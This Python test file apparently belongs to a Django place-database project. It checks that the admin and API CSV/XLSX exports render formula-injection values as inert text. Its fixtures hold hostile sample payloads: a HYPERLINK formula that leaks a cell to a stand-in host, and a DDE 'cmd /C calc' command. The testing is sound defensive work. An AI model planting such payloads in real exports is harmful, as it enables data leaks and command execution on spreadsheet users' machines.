"""Exports cannot run formulas (OWASP's CSV-injection rule): a text value starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written as text, a single quote
before it in the admin CSV and the API CSV, a string cell (never a formula cell) in the
admin XLSX; numbers (a negative longitude) stay numbers. Tried as an office user would,
through the admin's export and the public API."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.urls import reverse

from cities.models import Place
from utilities.testing.queries import content

pytestmark = pytest.mark.django_db

CSV_FORMAT, XLSX_FORMAT = "0", "1"
HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")'
COMMAND = "+cmd|' /C calc'!A0"


@pytest.fixture
def formula_place(db):
    return Place.objects.create(
        slug="test-formula-place",
        name_zh=HYPERLINK,
        name_en=COMMAND,
        name_local="@SUM(1+1)*cmd|' /C calc'!A0",
        level="city",
        country="US",
        latitude=Decimal("40.7128"),
        longitude=Decimal("-74.0060"),
    )


@pytest.fixture
def staff(client):
    call_command(
        "create_office_user", "test-export-staff", city="jinzhong",
        password="Office-staff-2019!", verbosity=0,
    )  # fmt: skip
    client.force_login(get_user_model().objects.get(username="test-export-staff"))


def admin_export(client, fmt):
    url = reverse("admin:cities_place_export")
    form = client.get(url).context["form"]
    data = {"format": fmt, "resource": "0"}
    data.update(
        {
            name: "on"
            for name, field in form.fields.items()
            if name not in data and field.initial is True
        }
    )
    response = client.post(url, data)
    assert response.status_code == 200
    return response


def test_the_admin_csv_writes_formulas_as_text(client, staff, formula_place):
    response = admin_export(client, CSV_FORMAT)
    rows = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    row = next(row for row in rows if row["标识"] == "test-formula-place")
    assert row["中文名"] == "'" + HYPERLINK
    assert row["英文名"] == "'" + COMMAND
    assert row["当地名称"].startswith("'@SUM")
    assert not row["经度"].startswith("'") and Decimal(row["经度"]) == Decimal("-74.006")
    # Ordinary text is untouched.
    jinzhong = next(row for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))) if row["标识"] == "jinzhong")  # fmt: skip
    assert jinzhong["中文名"] == "晋中市"


def test_the_admin_xlsx_writes_formulas_as_string_cells(client, staff, formula_place):
    response = admin_export(client, XLSX_FORMAT)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    table = list(sheet.iter_rows())
    headers = [cell.value for cell in table[0]]
    row = next(r for r in table[1:] if r[headers.index("标识")].value == "test-formula-place")
    name, english, longitude = (row[headers.index(h)] for h in ("中文名", "英文名", "经度"))
    assert name.data_type == "s" and name.value == HYPERLINK
    assert english.data_type == "s" and english.value == COMMAND
    assert not any(cell.data_type == "f" for r in table for cell in r)
    assert longitude.data_type == "n" and longitude.value == pytest.approx(-74.006)


def test_the_api_csv_writes_formulas_as_text_and_keeps_its_bom(client, formula_place):
    response = client.get("/api/places/", {"format": "csv"})
    assert response.status_code == 200
    assert content(response).startswith("\ufeff".encode())
    rows = csv.DictReader(io.StringIO(content(response).decode("utf-8-sig")))
    row = next(row for row in rows if row["slug"] == "test-formula-place")
    assert row["name_zh"] == "'" + HYPERLINK
    assert row["name_en"] == "'" + COMMAND
    assert row["name_local"].startswith("'@SUM")
    assert Decimal(row["longitude"]) == Decimal("-74.006") and row["longitude"].startswith("-")
